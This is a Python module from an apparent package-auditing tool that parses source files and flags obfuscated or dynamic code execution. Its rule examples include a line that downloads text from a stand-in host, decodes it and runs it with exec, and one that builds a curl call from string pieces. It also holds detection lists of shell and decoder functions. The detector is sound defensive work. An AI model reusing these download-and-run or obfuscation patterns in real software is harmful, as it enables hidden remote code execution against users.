"""Python code that hides what it runs, found in its syntax tree."""

import ast
import warnings
from collections.abc import Iterable, Iterator, Sequence
from typing import NamedTuple

from skillpm.audit.checks.encoded import COMMAND
from skillpm.audit.checks.python_constants import MAX_DEPTH, Constants, dotted
from skillpm.audit.finding import LOWER, AuditFinding
from skillpm.audit.rule import Example, Rule
from skillpm.audit.source_file import MAX_TEXT_SIZE, SourceFile, excerpt
from skillpm.core.decoder import parse_json
from skillpm.core.patterns import lazy_pattern
from skillpm.errors import DocumentError

# Of a module, in characters: the tree of a larger one takes too much memory.
MAX_SOURCE = 400_000
CODE_BLOCK = lazy_pattern(r"(?:^|\n)```py(?:thon)?[ \t]{0,9}\n(.{1,20000}?)\n```", 16)  # re.DOTALL
# PEP 263. In these encodings, a reader does not see what the interpreter runs.
CODEC = lazy_pattern(r"[^\n]{0,200}?\n?[ \t\f]*#[^\n]{0,80}?coding[:=][ \t]*([-\w.]{1,40})")
CODECS = frozenset(["utf_7", "u7", "utf7", "unicode_escape", "raw_unicode_escape", "punycode", "idna", "rot13", "hex"])
BINDING = (
    ast.Assign | ast.AnnAssign | ast.AugAssign | ast.NamedExpr | ast.For | ast.AsyncFor | ast.With | ast.AsyncWith
    | ast.Import | ast.ImportFrom
)  # fmt: skip
EVALUATORS = frozenset(["exec", "eval"])
IMPORTERS = frozenset(["__import__", "builtins.__import__", "importlib.import_module", "import_module"])
RUNNERS = frozenset(
    (
        *("exec", "eval", "compile", "builtins.exec", "builtins.eval", "runpy.run_path", "types.FunctionType"),
        *("FunctionType", *IMPORTERS),
    )
)
SHELLS = frozenset(
    ["os.system", "os.popen", "subprocess.run", "subprocess.Popen", "subprocess.call", "subprocess.check_output"]
)
DECODERS = frozenset(
    (
        *("b64decode", "urlsafe_b64decode", "b32decode", "b16decode", "b85decode", "a85decode", "decodebytes"),
        *("unhexlify", "fromhex", "decompress", "a2b_base64", "a2b_hex", "translate"),
    )
)
# `json.loads` decodes data, `marshal.loads` code.
CODE_LOADERS = frozenset(["marshal", "pickle", "dill", "cloudpickle"])
RECEIVERS = frozenset(["urlopen", "urlretrieve", "recv", "recvfrom"])
REQUESTS = frozenset(["get", "post", "request"])
CLIENTS = frozenset(
    ["requests", "httpx", "urllib", "urllib3", "session", "client", "http", "sock", "socket", "s", "request", "conn"]
)
ASSEMBLED_NAMES = frozenset(
    (
        *("exec", "eval", "system", "popen", "__import__", "compile", "os", "subprocess", "builtins", "Popen"),
        *("socket", "ctypes"),
    )
)

# Without one of these, a module neither runs nor hides anything.
# Texts, names and code from pieces.
PIECES = lazy_pattern(
    r"[\"']\s{0,9}\)?\s{0,9}[+/%]\s{0,9}[\"'(]|\.join\(\s{0,9}[\[(]|[\"']\.format\(|__dict__|\bvars\(|CDLL|marshal|pickle|runpy|://\{|\.py[\"'],\s?[\"'][wa]"
)
MIN_ASSEMBLED = 4
MAX_ASSEMBLED = 1_000
# With assembled texts.
MAX_LINES = 500
MODULES = frozenset(["os", "subprocess", "builtins", "importlib"])
NAMESPACES = frozenset(["__dict__", "__builtins__", "vars", "globals"])
INTERPRETERS = frozenset(["sys.executable", "sh", "bash", "python", "python3", "node", "/bin/sh", "/bin/bash"])
WORDS = (
    *("exec", "eval", "compile", "getattr", "__import__", "import_module", "system", "popen", "subprocess"),
    *("decode", "fromhex", "unhexlify", "chr(", "[::-1]"),
)

RULES = (
    Rule(
        id="dynamic-code",
        severity="high",
        title="Runs text as code",
        reason="`exec` and `eval` run decoded or downloaded text that was never reviewed. High if the text is decoded "
        "or comes from the network; low if it comes from elsewhere, since an agent may pass any text.",
        remedy="Put the code in a module; parse data with `json` or `ast.literal_eval`.",
        bad=Example(
            text='import base64, requests\n\ncode = requests.get("https://acme.example/x").text\n'
            "exec(base64.b64decode(code))\n",
            path="scripts/run.py",
        ),
        good=Example(text='import ast\n\nprint(ast.literal_eval("[1, 2]"))\n', path="scripts/run.py"),
    ),
    Rule(
        id="obfuscated-code",
        severity="high",
        title="Obfuscated code",
        reason="Names and texts that are assembled from pieces, packed JavaScript and renamed identifiers prevent "
        "reviewers and scanners from seeing what runs.",
        remedy="Ship the original source.",
        bad=Example(
            text='import os\n\ngetattr(os, "sys" + "tem")("cu" + "rl https://acme.example/a")\n', path="scripts/run.py"
        ),
        good=Example(text='import os\n\nprint(getattr(os, "name"))\n', path="scripts/run.py"),
    ),
)


class _Taint(NamedTuple):
    """Where the value of an expression comes from."""

    is_decoded: bool = False
    is_remote: bool = False


CLEAN = _Taint()
_Function = ast.FunctionDef | ast.AsyncFunctionDef


def check_python(file: SourceFile) -> Iterator[AuditFinding]:
    """Yield what a Python file runs that is decoded, downloaded or put together."""
    lower = file.folded.lower()
    if file.kind == "python" and (codec := CODEC.match(file.text)) and codec[1].lower().replace("-", "_") in CODECS:
        yield file.finding("obfuscated-code", "high", 1, f"the source is encoded in {excerpt(codec[1])}")
        return
    if not any(word in lower for word in WORDS) and (file.kind != "python" or not PIECES.search(file.text)):
        return
    if file.file_path.endswith(".ipynb") and len(file.text) <= MAX_SOURCE:
        yield from _check_source(file, read_notebook(file.text), lower)
    elif file.kind == "markdown" and "```py" in lower:
        line = end = 0
        for match in CODE_BLOCK.finditer(file.text[:MAX_SOURCE]):
            line, end = line + file.text.count("\n", end, match.start(1)), match.start(1)
            # Documentation shows code that is wrong, too.
            for found in _check_source(file, match[1], lower, line):
                yield found.replace(severity=LOWER[found.severity])
    elif file.kind == "python" and len(file.text) <= MAX_SOURCE:
        yield from _check_source(file, file.text.replace("\0", ""), lower)
    elif file.kind == "python" and len(file.text) <= MAX_TEXT_SIZE:
        message = f"only modules of up to {MAX_SOURCE:,} characters are parsed; this one has {len(file.text):,}"
        yield file.finding("not-audited", "medium", 1, message)


def read_notebook(text: str) -> str:
    """Return the source of the code cells of a Jupyter notebook, all in one line of the file; empty if it is none."""
    try:
        cells = parse_json(text, "notebook").value["cells"]
        sources = [cell["source"] for cell in cells if cell["cell_type"] == "code"]
        return "\n".join(source if isinstance(source, str) else "".join(source) for source in sources)
    except (DocumentError, KeyError, TypeError):
        return ""


def _check_source(file: SourceFile, source: str, lower: str, line: int = 0) -> Iterator[AuditFinding]:
    """Yield the findings in Python source that begins below a line of the file; `lower` is the file in lower case."""
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            tree = ast.parse(source)
        yield from _Reader(file, lower).read(ast.increment_lineno(tree, line) if line else tree)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return


def _walk(tree: ast.Module) -> Sequence[tuple[ast.AST, _Function | None]]:
    """Return all nodes, outer ones first, each with the function around it."""
    every: list[tuple[ast.AST, _Function | None]] = [(tree, None)]
    for node, around in every:
        function = node if isinstance(node, _Function) else around
        every.extend((child, function) for child in ast.iter_child_nodes(node))
    return every


def _end_of(function: tuple[_Function, _Function | None]) -> tuple[int, int, int]:
    """Return a key by which functions follow those in them, which end before them, or with them and begin later."""
    node = function[0]
    return node.end_lineno or 0, node.end_col_offset or 0, -node.lineno


class _Reader:
    def __init__(self, file: SourceFile, lower: str) -> None:
        self.file = file
        self.lower = lower
        self.tainted: dict[str, _Taint] = {}
        self.constants = Constants()
        # Lists by name: commands with their arguments.
        self.lists: dict[str, ast.List] = {}
        # What functions return.
        self.results: dict[str, _Taint] = {}
        # What a name refers to by an import or an assignment: `web` for `requests`.
        self.names: dict[str, str] = {}

    def read(self, tree: ast.Module) -> Iterator[AuditFinding]:
        every = _walk(tree)
        nodes = [node for node, _ in every if isinstance(node, BINDING | ast.Call | ast.BinOp | ast.JoinedStr)]
        nodes.sort(key=lambda node: (node.lineno, node.col_offset))
        bindings = [node for node in nodes if isinstance(node, BINDING)]
        for node in bindings:
            self._bind(node)
        if self._bind_results(every):
            for node in bindings:
                self._bind(node)
        for definition in (node for node, _ in every if isinstance(node, ast.FunctionDef | ast.ClassDef)):
            if any(self.name_of(decorator) in EVALUATORS for decorator in definition.decorator_list):
                line = definition.decorator_list[0].lineno
                yield self.file.finding("dynamic-code", "high", line, "a decorator runs what is below it as code")
        yield from self._check_nodes(nodes)

    def _check_nodes(self, nodes: Iterable[ast.stmt | ast.expr]) -> Iterator[AuditFinding]:
        reported: set[int] = set()
        for node in nodes:
            if isinstance(node, ast.Call):
                yield from self._check_call(node)
            text = (
                self.constants.fold(node)
                if isinstance(node, ast.expr) and not isinstance(node, ast.NamedExpr)
                else None
            )
            if text is None or len(text) < MIN_ASSEMBLED:
                continue
            if node.lineno not in reported and COMMAND.search(text) and not self._is_written(text):
                reported.add(node.lineno)
                message = f"this code assembles {excerpt(text, 120)}"
                yield self.file.finding("obfuscated-code", "high", node.lineno, message)
            known = self.file.assembled.get(node.lineno, "")
            if (
                self.file.kind == "python"
                and len(self.file.assembled) < MAX_LINES
                and len(known) < MAX_ASSEMBLED
                and text not in known
            ):
                added = " ".join(text[:MAX_ASSEMBLED].split())
                if added and added not in self.file.folded:
                    self.file.assembled[node.lineno] = f"{known} '{added}'"

    def _bind_results(self, every: Sequence[tuple[ast.AST, _Function | None]]) -> bool:
        """Note what functions return; whether any returns something that is decoded or downloaded."""
        # What a function inside another one returns counts for both, so each is read after those in it.
        functions = sorted(((node, around) for node, around in every if isinstance(node, _Function)), key=_end_of)
        returned: dict[_Function, list[ast.expr]] = {function: [] for function, _ in functions}
        for node, function in every:
            if function is not None and isinstance(node, ast.Return) and node.value:
                returned[function].append(node.value)
        inner: dict[_Function | None, _Taint] = {}
        for function, around in functions:
            taint = _union([inner.get(function, CLEAN), *map(self.taint, returned[function])])
            inner[around] = _union([inner.get(around, CLEAN), taint])
            if taint != CLEAN:
                self.results[function.name] = taint
        return bool(self.results)

    def _is_written(self, text: str) -> bool:
        """Return whether the source contains this text line by line: a long message in pieces hides nothing."""
        return all(match[0].lower() in self.lower for match in COMMAND.finditer(text))

    def _bind(self, node: ast.stmt | ast.expr) -> None:
        match node:
            case ast.Import() | ast.ImportFrom():
                self._import(node)
            case ast.Assign(targets=targets, value=value):
                for target in targets:
                    self._assign(target, value)
            case ast.AnnAssign(target=target, value=ast.expr() as value) | ast.NamedExpr(target=target, value=value):
                self._assign(target, value)
            case ast.AugAssign(target=ast.Name(id=name), value=value):
                self.tainted[name] = _union([self.tainted.get(name, CLEAN), self.taint(value)])
            case ast.For(target=target, iter=value) | ast.AsyncFor(target=target, iter=value):
                self._assign(target, value)
            case ast.With(items=items) | ast.AsyncWith(items=items):
                for item in items:
                    if item.optional_vars is not None:
                        self._assign(item.optional_vars, item.context_expr)

    def _import(self, node: ast.Import | ast.ImportFrom) -> None:
        module = f"{node.module}." if isinstance(node, ast.ImportFrom) and node.module else ""
        for alias in node.names:
            if module or alias.asname:
                self.names[alias.asname or alias.name] = f"{module}{alias.name}"

    def _assign(self, target: ast.expr, value: ast.expr) -> None:
        match target, value:
            case ast.Tuple(elts=targets), ast.Tuple(elts=values) if len(targets) == len(values):
                for each, its_value in zip(targets, values, strict=True):
                    self._assign(each, its_value)
            case ast.Attribute(value=ast.Name(id=name), attr=attribute), _:
                if (taint := self.taint(value)) != CLEAN:
                    self.tainted[f"{name}.{attribute}"] = taint
            case ast.Name(id=name), _:
                if isinstance(value, ast.List):
                    self.lists[name] = value
                if (taint := self.taint(value)) != CLEAN:
                    self.tainted[name] = taint
                if (text := self.constants.fold(value)) is not None:
                    self.constants.texts[name] = text
                if isinstance(value, ast.Name) and value.id in EVALUATORS:
                    self.names[name] = value.id

    def name_of(self, function: ast.expr) -> str:
        """Return the dotted name of a function, with what its first part refers to."""
        first, dot, rest = dotted(function).partition(".")
        return f"{self.names.get(first, first)}{dot}{rest}"

    def _check_call(self, node: ast.Call) -> Iterator[AuditFinding]:
        name = self.name_of(node.func)
        if not node.args:
            return
        if name in SHELLS or name in RUNNERS or name.endswith("import_module"):
            taint = self.taint(self._program_of(node.args[0]) if name in SHELLS else node.args[0])
            if taint != CLEAN:
                origin = "what comes from the network" if taint.is_remote else "what it decodes"
                yield self.file.finding("dynamic-code", "high", node.lineno, f"`{name}` runs {origin}")
            elif name in EVALUATORS and not isinstance(node.args[0], ast.Constant):
                yield self.file.finding(
                    "dynamic-code", "low", node.lineno, f"`{name}` runs text that is not in this file"
                )
        elif len(node.args) > 1 or name == "map":
            called = [argument for argument in node.args if self.name_of(argument) in EVALUATORS]
            if called and _union(map(self.taint, node.args)) != CLEAN:
                message = f"`{dotted(called[0])}` runs what is decoded or comes from the network"
                yield self.file.finding("dynamic-code", "high", node.lineno, message)
        yield from self._check_written(node, name)
        yield from self._check_lookup(node, name)

    def _program_of(self, command: ast.expr) -> ast.expr:
        """Return the part of a command that is run: in a list not the arguments, which are data for most programs."""
        if isinstance(command, ast.Name):
            command = self.lists.get(command.id, command)
        match command:
            case ast.List(elts=[program, *_]) | ast.Tuple(elts=[program, *_]):
                is_shell = self.name_of(program) in INTERPRETERS or self.constants.fold(program) in INTERPRETERS
                return command if is_shell and is_given_code(command) else program
            case ast.JoinedStr(values=[ast.Constant() as start, *_]):
                return start
        return command

    def _check_written(self, node: ast.Call, name: str) -> Iterator[AuditFinding]:
        """Yield what runs code that it is given in other ways: a pickle, the input of an interpreter, a module."""
        first, _, last = name.rpartition(".")
        taint = self.taint(node.args[0])
        if last == "loads" and first in CODE_LOADERS and taint != CLEAN:
            yield self.file.finding("dynamic-code", "medium", node.lineno, f"`{name}` runs code that it loads")
        elif (
            last in {"write", "write_text", "write_bytes"} and taint.is_remote and isinstance(node.func, ast.Attribute)
        ):
            opened = node.func.value
            path = self.constants.fold(opened.args[0]) if isinstance(opened, ast.Call) and opened.args else None
            if path is not None and path.endswith((".py", ".sh", ".js")):
                message = f"writes what comes from the network to {excerpt(path)}"
                yield self.file.finding("dynamic-code", "medium", node.lineno, message)
        elif name in SHELLS and any(key.arg == "input" and self.taint(key.value) != CLEAN for key in node.keywords):
            program = node.args[0].elts[0] if isinstance(node.args[0], ast.List) and node.args[0].elts else node.args[0]
            if self.name_of(program) in INTERPRETERS or self.constants.fold(program) in INTERPRETERS:
                message = f"`{name}` runs what is decoded or comes from the network"
                yield self.file.finding("dynamic-code", "high", node.lineno, message)

    def _check_lookup(self, node: ast.Call, name: str) -> Iterator[AuditFinding]:
        """Yield functions that are called by a name in pieces, or by way of the namespace of a module."""
        last = name.rpartition(".")[2]
        looked_up = node.args[1:2] if name == "getattr" else []
        if name in IMPORTERS or last in {"attrgetter", "methodcaller"}:
            looked_up = node.args[:1]
        for argument in looked_up:
            text = None if isinstance(argument, ast.Constant) else self.constants.fold(argument)
            if text in ASSEMBLED_NAMES:
                yield self.file.finding("obfuscated-code", "high", node.lineno, f"gets `{text}` by a name in pieces")
        if last in {"system", "popen", "execve"} and "CDLL" in name:
            yield self.file.finding("obfuscated-code", "high", node.lineno, f"calls `{last}` of the library of C")
        match node.func:
            case ast.Subscript(value=value, slice=key) if dotted(value).rpartition(".")[2] in NAMESPACES:
                if (text := self.constants.fold(key)) in ASSEMBLED_NAMES:
                    message = f"calls `{text}` by way of a namespace"
                    yield self.file.finding("obfuscated-code", "high", node.lineno, message)
            case ast.Call(func=ast.Name(id="getattr"), args=[ast.Name() as module, key, *_]):
                if (
                    self.name_of(module) in MODULES
                    and not isinstance(key, ast.Constant)
                    and self.constants.fold(key) is None
                ):
                    message = f"calls a function of `{module.id}` by a name that is not in the file"
                    yield self.file.finding("obfuscated-code", "medium", node.lineno, message)

    def taint(self, node: ast.expr, depth: int = 0) -> _Taint:
        """Return where the value of an expression comes from, as far as this file shows it."""
        if depth > MAX_DEPTH:
            return CLEAN
        match node:
            case ast.Name() | ast.Attribute() if (name := dotted(node)) in self.tainted:
                return self.tainted[name]
            case ast.GeneratorExp(elt=element) | ast.ListComp(elt=element):
                return _Taint(is_decoded=is_shifted(element))
            case ast.Attribute(value=value) | ast.Subscript(value=value) | ast.Await(value=value):
                return self.taint(value, depth + 1)
            case ast.List(elts=items) | ast.Tuple(elts=items) | ast.Dict(values=items):
                return _union(self.taint(item, depth + 1) for item in items[:20])
            case ast.BinOp(left=left, right=right):
                return _union(self.taint(item, depth + 1) for item in (left, right))
            case ast.JoinedStr(values=parts):
                return _union(
                    self.taint(item.value, depth + 1) for item in parts if isinstance(item, ast.FormattedValue)
                )
            case ast.Call():
                return self._taint_of_call(node, depth)
        return CLEAN

    def _taint_of_call(self, node: ast.Call, depth: int) -> _Taint:
        name = self.name_of(node.func)
        own = _Taint(is_decoded=is_decoder(node, name), is_remote=is_request(name))
        first, _, last = name.rpartition(".")
        if first in {"", "self", "cls"} and last in self.results:
            own = _union([own, self.results[last]])
        inner = [node.func.value] if isinstance(node.func, ast.Attribute) else []
        return _union([own, *(self.taint(item, depth + 1) for item in [*inner, *node.args[:10]])])


def is_decoder(node: ast.Call, name: str) -> bool:
    """Return whether a call decodes text to code or commands: not `json.loads`, but `marshal.loads`."""
    first, _, last = name.partition(".")[0], "", name.rpartition(".")[2]
    if last == "decode":
        codec = node.args[-1] if node.args else None
        return isinstance(codec, ast.Constant) and codec.value in {"rot13", "rot_13", "hex", "base64"}
    return last in DECODERS if last != "loads" else first in CODE_LOADERS


def is_request(name: str) -> bool:
    """Return whether a call returns what comes from the network."""
    last = name.rpartition(".")[2]
    return last in RECEIVERS or (last in REQUESTS and name.partition(".")[0] in CLIENTS)


def is_given_code(command: ast.List | ast.Tuple) -> bool:
    """Return whether an interpreter is given a program: `["bash", "-c", …]`, not `["bash", "run.sh", …]`."""
    options = {item.value for item in command.elts if isinstance(item, ast.Constant) and isinstance(item.value, str)}
    return not options.isdisjoint({"-c", "-e", "-lc"})


def is_shifted(node: ast.expr) -> bool:
    """Return whether an element of a generator is a byte or letter that was changed: `byte ^ 7`, `chr(code - 3)`."""
    match node:
        case ast.Call(func=ast.Name(id="chr"), args=[argument]):
            return isinstance(argument, ast.BinOp)
        case ast.BinOp(op=ast.BitXor()):
            return True
    return False


def _union(taints: Iterable[_Taint]) -> _Taint:
    is_decoded = is_remote = False
    for taint in taints:
        is_decoded, is_remote = is_decoded or taint.is_decoded, is_remote or taint.is_remote
    return _Taint(is_decoded=is_decoded, is_remote=is_remote)
